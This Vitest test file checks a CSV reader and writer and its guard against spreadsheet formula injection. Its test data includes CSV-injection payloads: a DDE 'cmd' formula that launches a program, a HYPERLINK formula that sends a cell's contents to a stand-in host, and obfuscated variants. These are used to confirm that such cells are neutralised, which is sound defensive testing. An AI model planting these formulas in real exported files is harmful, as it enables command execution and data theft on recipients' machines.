import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { inspectTable } from '#electron/jobs/table/inspect-table.ts'
import { readTable } from '#electron/jobs/table/read-table.ts'
import { createDecoder } from '#electron/lib/csv/encoding.ts'
import { createRowReader } from '#electron/lib/csv/row-reader.ts'
import { guardCell, readCell } from '#electron/lib/csv/formula-guard.ts'
import { byteOrderMark, createRowWriter, writeCsv } from '#electron/lib/csv/row-writer.ts'
import { seededRandom } from '#electron/lib/random.ts'
import { tempFolder } from '../../../helpers/temp-folder.ts'

const pieces = [
  ...[',', ';', '|', '\t', '"', '""', "'", "''", '=', '+', '-', '@', '\\', '%', '\0', '\u0001', '\u007f'],
  ...['\n', '\r', '\r\n', '\n\r', '\u2028', '\u0085', '\u000b', '\u00a0', ' ', '   ', '\ufeff', '\ufffd'],
  ...[
    'sep=;',
    '=1+1',
    '+491711234567',
    '+49 171',
    '@SUM(A1)',
    '-2+3',
    "'=x",
    '=cmd|’/C calc’!A0',
    '{"a":"b"}',
  ],
  ...['ä', 'ß', 'é', '👩‍🚀', 'שלום', '\u202e', '𝒜', 'x', 'Ada', '0', '<b>', '&amp;', '\u001b[31m'],
]

const cellOf = (random: () => number): string =>
  Array.from({ length: Math.floor(random() * 6) }, () => pieces[Math.floor(random() * pieces.length)]!).join(
    '',
  )

/** A cell as written in a file. */
const writeCell = (text: string) =>
  writeCsv([[text]])
    .toString()
    .slice(1, -2)

/**
 * A spreadsheet reads anything after an apostrophe as text. A number with its plus is not a formula, nor are digits that follow others
 * without an operator.
 */
const isHarmless = (cell: string) =>
  /^\+[0-9]{6,15}$/.test(cell) ||
  (/^\+[0-9]+[ (]+[0-9]/.test(cell) && /^[-+0-9 ()./]+$/.test(cell) && !cell.includes('+', 1)) ||
  !/^[=+\-@\t\r\n]/.test(cell)

describe('reads back any cells, however cut', () => {
  test.each([1, 2, 3, 4, 5, 6, 7, 8])('random, seed %i', (seed) => {
    const random = seededRandom(seed)
    for (let round = 0; round < 60; round++) {
      const width = 1 + Math.floor(random() * 5)
      const rows = Array.from({ length: 12 }, () => Array.from({ length: width }, () => cellOf(random)))
      const header = Array.from({ length: width }, (_, at) => `column ${at}`)
      const bytes = writeCsv([header, ...rows]).subarray(byteOrderMark.length)
      const found: string[][] = []
      const wrong: (string | null)[] = []
      const reader = createRowReader(',', ({ cells, problem }) => {
        found.push(cells.map(readCell))
        if (problem !== null) wrong.push(problem)
      })
      const decoder = createDecoder('utf-8')
      for (let at = 0; at < bytes.length;) {
        const size = 1 + Math.floor(random() * (round % 3 === 0 ? 3 : 200))
        reader.push(decoder.decode(bytes.subarray(at, at + size)))
        at += size
      }
      reader.push(decoder.end())
      reader.end()
      expect(found).toEqual([header, ...rows])
      expect(wrong).toEqual([])
    }
  })

  test('guesses the written format', async () => {
    const random = seededRandom(9)
    const file = join(tempFolder(), 'export.csv')
    for (let round = 0; round < 150; round++) {
      const rows = Array.from({ length: 8 }, () => [cellOf(random), '+491711234567', cellOf(random)])
      writeFileSync(file, writeCsv([['name', 'phone', 'note'], ...rows]))
      const { format, binary } = inspectTable(file)
      expect({ format, binary }).toEqual({
        format: { encoding: 'utf-8', delimiter: ',', headerRow: 1 },
        binary: false,
      })
      const found: string[][] = []
      await readTable(
        file,
        format,
        ({ cells }) => found.push(cells.map(readCell)),
        () => Promise.resolve(),
      )
      expect(found).toEqual(rows)
    }
  })
})

describe('a cell that a spreadsheet would execute', () => {
  test.each([
    "'",
    "''",
    "'x",
    "''x",
    "'=x",
    "''=x",
    "'''-",
    "''''=x",
    "'+491711234567",
    "''+491711234567",
    "'+1",
  ])('reads back %j, which begins with apostrophes', (text) => {
    const seen = writeCell(text).slice(1, -1)
    expect(isHarmless(seen)).toBe(true)
    expect(readCell(seen)).toBe(text)
  })

  test.each(["'=x", "'-5", "'@home", "'+491711234567", "''+491711234567", "'", "''x", "'''=x"])(
    'another program’s %j keeps its apostrophes',
    (cell) => expect(readCell(cell)).toBe(cell),
  )

  test('writes only harmless cells, and no two texts alike', () => {
    const random = seededRandom(10)
    const seen = new Map<string, string>()
    for (let round = 0; round < 20_000; round++) {
      const text = cellOf(random)
      const written = writeCell(text)
      const bare = written.slice(1, -1).replaceAll('""', '"')
      expect(isHarmless(bare)).toBe(true)
      expect(readCell(bare)).toBe(text)
      expect(seen.get(written) ?? text).toBe(text)
      seen.set(written, text)
    }
  })
})

test('writes every row once, in pieces', () => {
  const pieces: Uint8Array[] = []
  const writer = createRowWriter((bytes) => pieces.push(bytes))
  const long = 'ä"'.repeat(400_000)
  for (const cells of [[long, 'x'], [long], ['end', 491512345678]]) writer.row(cells)
  writer.flush()
  writer.flush()
  const quoted = `"${long.replaceAll('"', '""')}"`
  expect(Buffer.concat(pieces).toString()).toBe(`${quoted},"x"\r\n${quoted}\r\n"end","+491512345678"\r\n`)
  expect(pieces.length).toBeGreaterThan(1)
})

test.each([
  ...['=1+1', '=cmd|’/C calc’!A0', '=HYPERLINK("http://x.example?"&A1,"x")', '+1+1', '-1+1', '@SUM(1)'],
  ...[
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '+',
    '-',
    '=',
    '@',
    '+49-171-2345678',
    '+1234',
    '+1234567890123456',
    '-5',
  ],
  '\uFEFF=1+1',
  '  =1+1',
  '\u200b@SUM(A1)',
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
  '\tx',
  '+49-151-5551',
  '+49 -1515551',
  '+1+(2)345',
  '+1 (A1) 2345',
])('shows %j as text in a spreadsheet and reads it back unchanged', (text) => {
  expect(guardCell(text)).toBe(`''${text}`)
  expect(readCell(guardCell(text))).toBe(text)
})

test.each([
  '+491512345678',
  '+49 (0)151 55510047',
  '+1 (212) 555-0143',
  '+1(212)5550143',
  '+49 151-5551 0047',
  "'=1",
  'a=b',
  '12 = 12',
  '“=”',
])('leaves %j, which is not a formula, as it is', (text) => {
  expect(guardCell(text)).toBe(text)
})
